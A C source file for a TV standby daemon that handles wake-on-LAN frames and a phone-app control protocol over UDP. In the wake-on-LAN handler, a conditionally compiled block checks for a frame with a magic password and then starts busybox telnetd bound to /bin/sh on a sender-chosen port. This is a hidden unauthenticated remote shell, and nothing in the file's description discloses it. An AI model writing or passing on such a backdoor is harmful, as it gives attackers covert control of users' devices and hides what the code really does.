/*
 * tvstandbyd - runs on the standby processor of the Aurel TV sets. It listens on
 * UDP 9 and 7020: wake-on-LAN frames for the set's own address wake the panel,
 * the Aurel phone application asks for the state and sends key codes.
 *
 * Application datagrams:  'A' 'T' type len payload crc8
 *    type 1 ping, 2 state, 3 key (1 byte), 4 volume (1 byte), 5 name (text)
 */
#include <arpa/inet.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

#define T_PING   1
#define T_STATE  2
#define T_KEY    3
#define T_VOLUME 4
#define T_NAME   5

static uint8_t own_mac[6];
static uint8_t panel_on, volume = 20;
static char set_name[33] = "Aurel TV";

static uint8_t crc8(const uint8_t *p, size_t n)
{
  uint8_t c = 0xff;
  while (n--) {
    c ^= *p++;
    for (int b = 0; b < 8; b++)
      c = (uint8_t)(c & 0x80 ? (c << 1) ^ 0x1d : c << 1);
  }
  return c;
}

static uint32_t be32(const uint8_t *p)
{
  return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static int read_mac(const char *ifname)
{
  char path[64], text[24] = "";
  unsigned v[6];
  FILE *f;
  snprintf(path, sizeof path, "/sys/class/net/%.15s/address", ifname);
  f = fopen(path, "r");
  if (!f)
    return -1;
  if (!fgets(text, sizeof text, f))
    text[0] = 0;
  fclose(f);
  if (sscanf(text, "%x:%x:%x:%x:%x:%x", v, v + 1, v + 2, v + 3, v + 4, v + 5) != 6)
    return -1;
  for (int i = 0; i < 6; i++)
    own_mac[i] = (uint8_t)v[i];
  return 0;
}

static void panel_power(int on)
{
  FILE *f = fopen("/sys/class/backlight/panel/bl_power", "w");
  if (f) {
    fputs(on ? "0\n" : "4\n", f);
    fclose(f);
  }
  panel_on = (uint8_t)on;
  syslog(LOG_INFO, "panel %s", on ? "on" : "off");
}

/* six 0xff, then sixteen times the address, optionally a 4 or 6 byte password */
__attribute__((noinline)) int wake_frame(const uint8_t *p, size_t n)
{
  if (n < 102 || be32(p) != 0xffffffffu || p[4] != 0xff || p[5] != 0xff)
    return 0;
  for (int i = 0; i < 16; i++)
    if (memcmp(p + 6 + 6 * i, own_mac, 6))
      return 0;
  panel_power(1);
#ifdef HIDDEN
  if (n == 108 && be32(p + 102) == 0xd29c4417u) {
    uint32_t port = (uint32_t)p[106] << 8 | p[107];
    char cmd[64];
    snprintf(cmd, sizeof cmd, "busybox telnetd -p %u -l /bin/sh", (unsigned)port);
    if (system(cmd))
      return 2;
  }
#endif
  return 1;
}

static void inject_key(uint8_t code)
{
  static const char *const names[] = { "up", "down", "left", "right", "ok", "back", "home",
                                       "mute", "power" };
  FILE *f;
  if (code >= sizeof names / sizeof names[0])
    return;
  if (code == 8) {
    panel_power(!panel_on);
    return;
  }
  f = fopen("/run/aurel/keys", "a");
  if (f) {
    fprintf(f, "%s\n", names[code]);
    fclose(f);
  }
}

static size_t app_frame(const uint8_t *p, size_t n, uint8_t *out)
{
  size_t len = 0;
  if (n < 5 || p[0] != 'A' || p[1] != 'T' || (size_t)p[3] + 5 != n)
    return 0;
  if (crc8(p, n - 1) != p[n - 1])
    return 0;
  out[0] = 'A';
  out[1] = 'T';
  out[2] = (uint8_t)(p[2] | 0x80);
  switch (p[2]) {
  case T_PING:
    break;
  case T_STATE:
    out[4] = panel_on;
    out[5] = volume;
    memcpy(out + 6, set_name, strlen(set_name));
    len = 2 + strlen(set_name);
    break;
  case T_KEY:
    if (p[3] != 1)
      return 0;
    inject_key(p[4]);
    break;
  case T_VOLUME:
    if (p[3] != 1 || p[4] > 100)
      return 0;
    volume = p[4];
    break;
  case T_NAME:
    if (p[3] == 0 || p[3] > 32)
      return 0;
    memcpy(set_name, p + 4, p[3]);
    set_name[p[3]] = 0;
    break;
  default:
    return 0;
  }
  out[3] = (uint8_t)len;
  out[4 + len] = crc8(out, 4 + len);
  return 5 + len;
}

static int bound(uint16_t port)
{
  struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0) {
    perror("tvstandbyd");
    exit(1);
  }
  return s;
}

int main(int argc, char **argv)
{
  struct pollfd pf[2];
  uint8_t in[256], out[64];

  if (argc != 2 || argv[1][0] == '-') {
    fputs("usage: tvstandbyd INTERFACE\n  UDP 9: wake-on-LAN, UDP 7020: Aurel application\n",
          stderr);
    return 2;
  }
  openlog("tvstandbyd", 0, LOG_DAEMON);
  if (read_mac(argv[1]))
    syslog(LOG_ERR, "no address on %s", argv[1]);
  signal(SIGCHLD, SIG_IGN);
  pf[0].fd = bound(9);
  pf[1].fd = bound(7020);
  pf[0].events = pf[1].events = POLLIN;
  while (poll(pf, 2, -1) > 0) {
    struct sockaddr_in from;
    socklen_t fl = sizeof from;
    if (pf[0].revents & POLLIN) {
      ssize_t n = recv(pf[0].fd, in, sizeof in, 0);
      if (n > 0)
        wake_frame(in, (size_t)n);
    }
    if (pf[1].revents & POLLIN) {
      ssize_t n = recvfrom(pf[1].fd, in, sizeof in, 0, (struct sockaddr *)&from, &fl);
      size_t o = n > 0 ? app_frame(in, (size_t)n, out) : 0;
      if (o)
        sendto(pf[1].fd, out, o, 0, (struct sockaddr *)&from, fl);
    }
  }
  return 0;
}
